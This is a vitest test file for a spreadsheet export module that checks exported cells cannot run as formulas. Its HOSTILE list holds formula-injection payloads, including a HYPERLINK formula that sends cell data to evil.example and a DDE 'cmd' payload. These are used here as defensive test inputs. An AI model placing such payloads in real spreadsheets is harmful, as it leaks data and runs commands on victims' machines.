import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as XLSX from 'xlsx';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { emptyLineValues } from '@shared/pallets/fields';
import { couldRunAsFormula, exportToXlsx, neutraliseForCsv, type ExportLine } from './xlsx-writer';
import { runImport } from '../import/import-pipeline';
import { writeFixtures, type FixtureName } from '../../../test/helpers/pallet-fixtures';

let dir: string;
let fx: Record<FixtureName, string>;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'fm-export-'));
  fx = writeFixtures(dir);
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', '\n=1+1', '  =1+1', '\u00a0\ufeff=1+1', '＝1+1', "=cmd|' /C calc'!A0"];

function readBack(path: string): XLSX.WorkBook {
  return XLSX.read(readFileSync(path), { type: 'buffer', cellFormula: true, dense: true });
}

function allCells(ws: XLSX.WorkSheet): XLSX.CellObject[] {
  const rows = (ws['!data'] as (XLSX.CellObject[] | undefined)[] | undefined) ?? [];
  return rows.flatMap((r) => (r ?? []).filter((c): c is XLSX.CellObject => c !== undefined));
}

describe('export safety', () => {
  it('recognises text that a spreadsheet could run as a formula, after leading whitespace too', () => {
    for (const s of HOSTILE) {
      expect(couldRunAsFormula(s)).toBe(true);
      expect(neutraliseForCsv(s)).toBe(`'${s}`);
    }
    expect(neutraliseForCsv('Kettle = 2 pcs')).toBe('Kettle = 2 pcs');
    expect(couldRunAsFormula(-5)).toBe(false);
    expect(couldRunAsFormula('')).toBe(false);
    expect(couldRunAsFormula(null)).toBe(false);
  });

  it('round trip: hostile cells in the original columns and the canonical fields come back as inert text', async () => {
    const lines: ExportLine[] = HOSTILE.map((s, i) => ({
      row: i + 2,
      source: [s, i, 12.5, null],
      values: { ...emptyLineValues(), name: s, brand: s, quantity: i, retail_price: 12.5 },
      score: 50,
      status: 'ok',
      fired: [],
      issues: [{ field: 'ean', kind: 'rejected', code: 'ean_checksum', message: 'EAN check digit is wrong.', raw: s }],
    }));
    const out = join(dir, 'hostile.xlsx');
    const res = await exportToXlsx({ path: out, headers: ['=Name', 'Qty', 'Price', '@Note'], lines, summary: [['Total', 100], ['=1+2', '-x']] });
    expect(res.rows).toBe(HOSTILE.length);
    const wb = readBack(out);
    expect(wb.SheetNames).toEqual(['Lines', 'Summary']);
    for (const name of wb.SheetNames) {
      const cells = allCells(wb.Sheets[name] as XLSX.WorkSheet);
      expect(cells.length).toBeGreaterThan(0);
      for (const c of cells) {
        expect(c.f).toBeUndefined();
        if (typeof c.v === 'string') expect(c.t).toBe('s');
      }
    }
    const aoa = XLSX.utils.sheet_to_json<unknown[]>(wb.Sheets.Lines as XLSX.WorkSheet, { header: 1, raw: true });
    // Texts come back exactly as they were (no apostrophe added), numbers stay numbers.
    expect(aoa[0]?.slice(0, 5)).toEqual(['Source row', '=Name', 'Qty', 'Price', '@Note']);
    expect(aoa[1]?.slice(0, 4)).toEqual([2, HOSTILE[0], 0, 12.5]);
  });

  it('exports an imported manifest with original columns, canonical fields, score, status and explanation', async () => {
    const r = await runImport({ path: fx['bstock.xlsx'] });
    const out = join(dir, 'bstock-out.xlsx');
    await exportToXlsx({ path: out, headers: r.header.headers, lines: r.lines ?? [] });
    const aoa = XLSX.utils.sheet_to_json<unknown[]>(readBack(out).Sheets.Lines as XLSX.WorkSheet, { header: 1, raw: true, defval: null });
    const header = aoa[0] as string[];
    expect(header.slice(0, 4)).toEqual(['Source row', 'Category', 'Item Description', 'Brand']);
    expect(header).toEqual(expect.arrayContaining(['Fieldmate: name', 'Fieldmate: ean', 'Score', 'Status', 'Explanation', 'Issues']));
    const hazmat = aoa.find((row) => row[0] === 11) as unknown[];
    expect(hazmat[header.indexOf('Status')]).toBe('blocked');
    expect(String(hazmat[header.indexOf('Explanation')])).toMatch(/^Blocked \(score \d+\): block “Blocked categories”/);
    expect(hazmat[header.indexOf('Fieldmate: category')]).toBe('hazardous');
    expect(aoa).toHaveLength(11);
  });

  it('fails with a clear sentence when the folder does not exist', async () => {
    await expect(exportToXlsx({ path: join(dir, 'missing', 'x.xlsx'), headers: ['a'], lines: [] })).rejects.toMatchObject({ message: 'The export file could not be written; check the folder exists and is writable.' });
  });
});
